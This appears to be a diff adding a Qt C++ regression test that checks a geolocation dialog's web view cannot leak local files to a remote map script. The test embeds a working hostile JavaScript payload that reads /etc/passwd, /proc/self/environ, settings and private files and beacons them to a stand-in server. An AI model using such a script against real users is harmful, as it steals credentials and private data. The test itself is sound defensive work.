@@ -15,6 +15,7 @@
 #include <QSettings>
 #include <QTcpServer>
 #include <QTcpSocket>
+#include <QTemporaryDir>
 #include <QWebElement>
 #include <QWebFrame>
 #include <QWebView>
@@ -67,6 +68,64 @@ public:
     QStringList gpsLines() const { return lines.filter(QRegularExpression(QStringLiteral("^GPS:"))); }
 };
 
+// A web server on a loopback port: serves scripts by path and records every request it gets (request
+// line and body), as the map service's server would see them.
+class ScriptServer : public QObject
+{
+public:
+    QTcpServer server;
+    QMap<QString, QByteArray> scripts;
+    QList<QByteArray> requests;
+
+    bool listen()
+    {
+        if (!server.listen(QHostAddress::LocalHost))
+            return false;
+        connect(&server, &QTcpServer::newConnection, this, [this] {
+            while (QTcpSocket *socket = server.nextPendingConnection()) {
+                auto *buffer = new QByteArray;
+                connect(socket, &QTcpSocket::disconnected, socket, [socket, buffer] {
+                    delete buffer;
+                    socket->deleteLater();
+                });
+                connect(socket, &QTcpSocket::readyRead, this, [this, socket, buffer] {
+                    *buffer += socket->readAll();
+                    const int end = buffer->indexOf("\r\n\r\n");
+                    if (end < 0)
+                        return;
+                    const QRegularExpressionMatch length =
+                        QRegularExpression(QStringLiteral("(?i)content-length: *(\\d+)"))
+                            .match(QString::fromLatin1(buffer->left(end)));
+                    if (length.hasMatch() && buffer->size() < end + 4 + length.captured(1).toInt())
+                        return;
+                    requests << *buffer;
+                    const QByteArray path = buffer->split(' ').value(1);
+                    buffer->clear();
+                    const QString name = QString::fromLatin1(path.split('?').value(0));
+                    const bool known = scripts.contains(name);
+                    const QByteArray body = scripts.value(name);
+                    socket->write(QByteArray(known ? "HTTP/1.1 200 OK\r\n" : "HTTP/1.1 404 Not Found\r\n") +
+                                  "Content-Type: application/javascript\r\nContent-Length: " +
+                                  QByteArray::number(body.size()) + "\r\nConnection: close\r\n\r\n" + body);
+                    socket->disconnectFromHost();
+                });
+            }
+        });
+        return true;
+    }
+    QUrl url(const QString &path) const
+    {
+        return QUrl(QStringLiteral("http://127.0.0.1:%1%2").arg(server.serverPort()).arg(path));
+    }
+    bool anyRequestContains(const QByteArray &text) const
+    {
+        for (const QByteArray &request : requests)
+            if (request.contains(text) || QByteArray::fromPercentEncoding(request).contains(text))
+                return true;
+        return false;
+    }
+};
+
 class TestGeolocationDialog : public QObject
 {
     Q_OBJECT
@@ -86,6 +145,7 @@ private slots:
     void geolocationPermissionIsGranted();
     void unreachableMapServiceKeepsTheStoredPoint();
     void unwritableSettingsFileIsReported();
+    void hostileMapScriptReadsNoLocalFile();
 
 private:
     // A dialog made as the window makes it, shown, with its page loaded.
@@ -392,6 +452,77 @@ void TestGeolocationDialog::unwritableSettingsFileIsReported()
     QVERIFY(file.open(QIODevice::ReadOnly));
     const QByteArray content = file.readAll();
     QVERIFY2(content.contains("lng=1.5") && content.contains("lat=2.5"), content.constData());
+}
+
+void TestGeolocationDialog::hostileMapScriptReadsNoLocalFile()
+{
+    // The map script comes from the network: one that tries to read this machine's files (a private
+    // file, the settings file, the program's own page) and send them home reads nothing, while the one
+    // position call still works.
+    QTemporaryDir home;
+    QVERIFY(home.isValid());
+    const QString secret = home.path() + QStringLiteral("/private.txt");
+    {
+        QFile file(secret);
+        QVERIFY(file.open(QIODevice::WriteOnly));
+        file.write("PRIVATE-7f3a");
+    }
+    SettingModel::writeValues({{QStringLiteral("Geolocation/lng"), 98.7654}});
+    QFile settings(SettingModel::filePath());
+    QVERIFY(settings.exists());
+    ScriptServer server;
+    QVERIFY(server.listen());
+    const QStringList targets{
+        QUrl::fromLocalFile(secret).toString(), QUrl::fromLocalFile(SettingModel::filePath()).toString(),
+        QStringLiteral("file:///etc/passwd"), QStringLiteral("file:///proc/self/environ"),
+        QString::fromLatin1(GeolocationDialog::kPageUrl)};
+    QString script =
+        QStringLiteral(
+            "(function () {"
+            "  var home = '%1';"
+            "  var targets = %2;"
+            "  var send = function (what, text) {"
+            "    try { var x = new XMLHttpRequest(); x.open('POST', home + '/leak?what=' + "
+            "encodeURIComponent(what), true);"
+            "      x.send(text); } catch (e) {}"
+            "    var i = new Image(); i.src = home + '/beacon?what=' + encodeURIComponent(what) + '&text=' +"
+            "      encodeURIComponent(String(text).substr(0, 1500));"
+            "  };"
+            "  targets.forEach(function (t) {"
+            "    try { var x = new XMLHttpRequest(); x.open('GET', t, false); x.send(null);"
+            "      send(t, 'read:' + x.status + ':' + x.responseText); } catch (e) { send(t, 'refused:' + "
+            "e); }"
+            "    try { var f = document.createElement('iframe'); f.src = t; "
+            "document.documentElement.appendChild(f);"
+            "      f.onload = function () { try { send(t, 'frame:' + "
+            "f.contentDocument.documentElement.textContent); }"
+            "        catch (e) { send(t, 'frame refused'); } }; } catch (e) {}"
+            "  });"
+            "  Orvanta.SetCurrentPosition(1.25, 2.5);"
+            "  setTimeout(function () { send('done', 'done'); }, 500);"
+            "})();")
+            .arg(server.url(QString()).toString());
+    QString list = QStringLiteral("[");
+    for (const QString &target : targets)
+        list += QLatin1Char('\'') + target + QStringLiteral("',");
+    list += QLatin1Char(']');
+    server.scripts.insert(QStringLiteral("/map.js"), script.replace(QLatin1String("%2"), list).toUtf8());
+    GeolocationDialog::setMapScriptUrl(server.url(QStringLiteral("/map.js")));
+    auto dialog = openDialog();
+    GeolocationDialog::setMapScriptUrl(QUrl::fromLocalFile(QStringLiteral(ORV_MAP_STANDIN)));
+    QTRY_VERIFY_WITH_TIMEOUT(server.anyRequestContains("what=done"), 10000);
+    QTest::qWait(300);
+    QVERIFY2(!server.anyRequestContains("PRIVATE-7f3a"), "the private file reached the map server");
+    QVERIFY2(!server.anyRequestContains("98.7654"), "the settings file reached the map server");
+    QVERIFY2(!server.anyRequestContains("root:"), "/etc/passwd reached the map server");
+    QVERIFY2(!server.anyRequestContains("PATH="), "the environment reached the map server");
+    QVERIFY2(!server.anyRequestContains("MAP_SCRIPT") && !server.anyRequestContains("savePoint"),
+             "the program's page reached the map server");
+    // Every attempt was made and reported (the script really ran).
+    for (const QString &target : targets)
+        QVERIFY2(server.anyRequestContains(QUrl::toPercentEncoding(target)), qPrintable(target));
+    QCOMPARE(dialog->longitude(), 1.25);
+    QCOMPARE(dialog->latitude(), 2.5);
 }
 
 QTEST_MAIN(TestGeolocationDialog)
